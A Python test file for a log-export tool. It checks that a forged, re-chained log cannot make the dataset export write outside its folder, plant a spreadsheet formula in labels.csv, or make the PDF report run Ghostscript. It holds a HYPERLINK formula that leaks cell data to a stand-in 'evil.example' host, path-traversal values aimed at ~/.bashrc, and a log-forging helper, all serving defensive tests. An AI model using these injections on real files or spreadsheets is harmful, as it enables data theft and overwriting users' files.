"""A crafted log (edited with the chain recomputed, so ``tilik log verify`` passes) must not make
``tilik log dataset`` write outside its folder, or put a formula into labels.csv (issue 22, item 2),
nor make the PDF report run Ghostscript on an EPS swapped in as a stored image (item 1)."""

from __future__ import annotations

import csv
import hashlib
import io
import os
import sqlite3
from pathlib import Path

import pytest
from PIL import Image

from inference.errors import ImageReadError
from inference.log import InspectionLog, LogQuery
from inference.log.chain import row_hash
from inference.log.dataset import export_dataset
from inference.log.schema import GENESIS_HASH, chained_tables, user_version
from log_helpers import raw
from tilik.cli import main

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def drop_triggers(conn: sqlite3.Connection) -> None:
    """The append-only triggers are in the file; whoever can write the file can drop them."""
    for (name,) in conn.execute("SELECT name FROM sqlite_master WHERE type = 'trigger'").fetchall():
        conn.execute(f'DROP TRIGGER "{name}"')


def rechain(conn: sqlite3.Connection) -> None:
    """What a forger with the published algorithm does: recompute every row hash in seq order
    (and the reviews' copy of their inspection's hash)."""
    tables = chained_tables(user_version(conn))
    rows = []
    for table in tables:
        cur = conn.execute(f"SELECT * FROM {table}")  # noqa: S608 - our own table names
        names = [d[0] for d in cur.description]
        rows += [(table, dict(zip(names, r))) for r in cur]
    prev, inspection_hash = GENESIS_HASH, {}
    for table, row in sorted(rows, key=lambda tr: tr[1]["seq"]):
        if table == "reviews":
            row["inspection_hash"] = inspection_hash[row["inspection_id"]]
            conn.execute("UPDATE reviews SET inspection_hash = ? WHERE id = ?", (row["inspection_hash"], row["id"]))
        prev = row_hash(prev, table, row)
        if table == "inspections":
            inspection_hash[row["id"]] = prev
        conn.execute(f"UPDATE {table} SET hash = ? WHERE id = ?", (prev, row["id"]))  # noqa: S608
    conn.execute("UPDATE chain_head SET hash = ?", (prev,))
    # This forger is the station's own user: they hold its signing key and re-sign the head, so
    # `log verify` passes and only the export's own checks stand in the way.
    from inference.log.store.db import station_signer

    head_seq = conn.execute("SELECT seq FROM chain_head").fetchone()[0]
    station_signer().sign(conn, head_seq, prev, "2025-01-01T00:00:00.000000Z")


def _verify_ok(db: Path, capsys) -> bool:
    code = main(["log", "verify", "--db", str(db)])
    out = capsys.readouterr().out
    return code == 0 and "Log intact" in out


def test_crafted_log_cannot_write_outside_the_dataset_folder(inspect, log, log_path, tmp_path, capsys):
    recs = [inspect(i, colour="red") for i in range(1, 5)]
    for rec in recs:
        log.add_review(rec.id, "confirm", by="sup")
    media = log.media.root
    log.close()
    victim = tmp_path / "home" / ".bashrc"
    victim.parent.mkdir()
    victim.write_text("original\n")
    out = tmp_path / "home" / "exports" / "ds"
    conn = raw(log_path)
    conn.execute("BEGIN")
    drop_triggers(conn)
    # 1: a "digest" that climbs out of the dataset folder (the file written was ~/.bashrc).
    conn.execute("UPDATE inspections SET image_sha256 = ? WHERE id = ?", ("../../../.bashrc", recs[0].id))
    # 2: an absolute path as the digest.
    conn.execute("UPDATE inspections SET image_sha256 = ? WHERE id = ?", (str(victim), recs[1].id))
    # 3: a stored file renamed to an extension no image ever gets (".sh"), its name fixed in the row.
    old = media / recs[2].image_file
    new_rel = recs[2].image_file.rsplit(".", 1)[0] + ".sh"
    old.rename(media / new_rel)
    conn.execute("UPDATE inspections SET image_file = ? WHERE id = ?", (new_rel, recs[2].id))
    # 4: a reviewer name that is a spreadsheet formula (labels.csv's reviewed_by column).
    conn.execute("UPDATE reviews SET reviewer = ? WHERE inspection_id = ?", (FORMULA, recs[3].id))
    rechain(conn)
    conn.execute("COMMIT")
    conn.close()
    assert _verify_ok(log_path, capsys)  # the forgery is self-consistent: only the export can refuse it

    code = main(["log", "dataset", "--db", str(log_path), "--out", str(out)])
    text = capsys.readouterr().out
    assert code == 0
    assert victim.read_text() == "original\n"
    written = sorted(p.relative_to(tmp_path).as_posix() for p in (tmp_path / "home").rglob("*") if p.is_file())
    assert written == ["home/.bashrc", "home/exports/ds/labels.csv", "home/exports/ds/log-head.json",
                       f"home/exports/ds/red/{recs[3].image_sha256}.png"]
    assert "skipped 3: invalid image name in the log" in text
    with open(out / "labels.csv", newline="", encoding="utf-8") as fh:
        (row,) = list(csv.DictReader(fh))
    assert row["reviewed_by"] == "'" + FORMULA  # shown as text, never run


def test_dataset_target_validation_rules(tmp_path):
    from inference.log.dataset import _target

    root = tmp_path.resolve()
    sha = "ab" * 32
    assert _target(root, "red", sha, ".png") == root / "red" / f"{sha}.png"
    assert _target(root, "..", sha, ".png") == root / "_" / f"{sha}.png"  # sanitised to a plain name
    assert _target(root, "../../etc", sha, ".jpg").parent.parent == root
    for bad_sha in ("AB" * 32, sha[:-1], sha + "0", "../" + sha[3:], None, 5):
        assert _target(root, "red", bad_sha, ".png") is None
    for bad_ext in (".sh", ".PNG/..", "", ".bashrc"):
        assert _target(root, "red", sha, bad_ext) is None


def test_export_never_writes_through_an_existing_link(inspect, log, tmp_path):
    rec = inspect(1, colour="red")
    log.add_review(rec.id, "confirm", by="sup")
    from inference.log.dataset import _write_new

    victim = tmp_path / "victim.txt"
    victim.write_text("keep")
    link = tmp_path / "link.png"
    link.symlink_to(victim)
    try:
        _write_new(link, b"payload")
    except OSError:
        pass
    assert victim.read_text() == "keep"
    summary = export_dataset(log, tmp_path / "ds")
    assert summary.written == 1


def test_forged_eps_in_the_media_folder_never_runs_ghostscript(inspect, log, log_path, tmp_path, capsys,
                                                                monkeypatch):
    """An EPS swapped in as a stored image (its hash and the chain fixed) is refused wherever the log
    re-opens images — thumbnails, the PDF report — and Ghostscript never runs."""
    from gui.report_pdf import export_pdf

    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    marker = tmp_path / "gs-ran"
    (bin_dir / "gs").write_text(f"#!/bin/sh\ntouch '{marker}'\nexit 1\n")
    (bin_dir / "gs").chmod(0o755)
    monkeypatch.setenv("PATH", f"{bin_dir}{os.pathsep}{os.environ['PATH']}")
    rec = inspect(1, colour="red")
    media = log.media.root
    log.close()
    buf = io.BytesIO()
    Image.new("RGB", (24, 32), (200, 0, 0)).save(buf, format="EPS")
    eps = buf.getvalue()
    sha = hashlib.sha256(eps).hexdigest()
    relative = f"images/{sha[:2]}/{sha}.jpg"
    (media / relative).parent.mkdir(parents=True, exist_ok=True)
    (media / relative).write_bytes(eps)
    conn = raw(log_path)
    conn.execute("BEGIN")
    drop_triggers(conn)
    conn.execute("UPDATE inspections SET image_file = ?, image_file_sha256 = ? WHERE id = ?", (relative, sha, rec.id))
    rechain(conn)
    conn.execute("COMMIT")
    conn.close()
    assert _verify_ok(log_path, capsys)
    with InspectionLog.open(log_path) as forged:
        record = forged.get(rec.id)
        with pytest.raises(ImageReadError, match="not an image"):
            forged.image_array(record)
        out = tmp_path / "report.pdf"
        assert export_pdf(forged, LogQuery(), out) == 2  # summary + the page, written without the picture
        assert out.read_bytes().startswith(b"%PDF-")
    assert not marker.exists()
